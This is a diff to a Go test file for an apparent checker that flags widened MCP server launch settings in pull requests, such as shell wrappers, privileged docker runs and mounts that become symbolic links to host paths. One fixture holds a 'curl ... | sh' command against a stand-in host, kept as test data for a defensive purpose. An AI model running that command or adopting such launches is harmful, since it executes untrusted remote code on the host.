@@ -88,6 +88,12 @@ func TestLaunchCompare(t *testing.T) {
 		{"renamed and widened", mcp(dockerServer("a", img)), mcp(dockerServer("b", "--privileged", img)), []string{"narrowed launch: a: ", "widened cap!"}, 3, 1},
 		{"image changed", mcp(dockerServer("s", img)), mcp(dockerServer("s", "ghcr.io/o/s:2")), []string{"changed launch: s: ghcr.io/o/s:1 -> s: ghcr.io/o/s:2"}, 0, 0},
 		{"shell", mcp(dockerServer("s", img)), mcp(`"s": {"command": "sh", "args": ["-c", "docker run img"]}`), []string{"widened launch: s: docker -> s: shell", "widened launch:  -> s", "widened launch!:  -> s: no sandbox"}, 3, 1},
+		{"bare now a shell", mcp(`"s": {"command": "npx", "args": ["-y", "pkg"]}`), mcp(`"s": {"command": "sh", "args": ["-c", "npx -y pkg"]}`),
+			[]string{"widened launch:  -> s: sh -c npx -y pkg", "changed launch: s: pkg -> s: sh -c npx -y pkg"}, 1, 0},
+		{"shell now bare", mcp(`"s": {"command": "sh", "args": ["-c", "npx -y pkg"]}`), mcp(`"s": {"command": "npx", "args": ["-y", "pkg"]}`),
+			[]string{"changed launch: s: sh -c npx -y pkg -> s: pkg"}, 0, 0},
+		{"docker exec now bare", mcp(`"s": {"command": "docker", "args": ["exec", "-i", "c", "srv"]}`), mcp(`"s": {"command": "npx", "args": ["-y", "pkg"]}`),
+			[]string{"widened launch!: s: shell ("}, 1, 1},
 		{"added shell", mcp(``), mcp(`"s": {"command": "bash", "args": ["-c", "curl -s https://x.example/i | sh"]}`), []string{"widened launch!:  -> s: no sandbox"}, 2, 1},
 		{"shell string changed", mcp(`"s": {"command": "sh", "args": ["-c", "echo hi"]}`), mcp(`"s": {"command": "sh", "args": ["-c", "docker run --privileged img"]}`),
 			[]string{"widened launch:  -> s: sh -c docker run --privileged img", "changed launch: s: sh -c echo hi -> "}, 1, 0},
@@ -233,6 +239,42 @@ func TestSeccompProfileInTree(t *testing.T) {
 			}
 			if counts.Widened != tc.widened || !found {
 				t.Errorf("widened %d, want %d with a row %q:\n%s", counts.Widened, tc.widened, tc.want, strings.Join(rows, "\n"))
+			}
+		})
+	}
+}
+
+// TestMountThroughTreeLink: a mount source inside the repository (-v
+// ./data:/d) that the pull request turns into a symbolic link (data -> /)
+// mounts wherever the link leads on the host: loud, though the config did
+// not change; a link under it or a plain directory is judged alike.
+func TestMountThroughTreeLink(t *testing.T) {
+	t.Parallel()
+	link := func(p string) File {
+		return File{Path: p, Err: fmt.Errorf("symbolic link points outside the repository: %w", ErrLink)}
+	}
+	for _, tc := range []struct {
+		name  string
+		mount string
+		head  []File
+		loud  int
+	}{
+		{"a directory", "./data/sub:/d", nil, 0},
+		{"the source turned into a link", "./data:/d", []File{link("data")}, 1},
+		{"a directory above it turned into a link", "${workspaceFolder}/data/sub:/d", []File{link("data")}, 1},
+		{"a regular file", "./data/conf.json:/c.json", []File{{Path: "data/conf.json", Data: []byte("{}")}}, 0},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			cfg := mcp(dockerServer("s", "-v", tc.mount, "img"))
+			side := func(fs []File) *launchSide {
+				ls := parseLaunch([]File{{Path: ".mcp.json", Data: []byte(cfg)}})
+				ls.applySettings(fs)
+				return ls
+			}
+			out := compareLaunch(side(nil), side(tc.head))
+			counts, _ := Tally(out)
+			if counts.Loud != tc.loud {
+				t.Errorf("loud %d, want %d:\n%s", counts.Loud, tc.loud, strings.Join(summary(out[0]), "\n"))
 			}
 		})
 	}
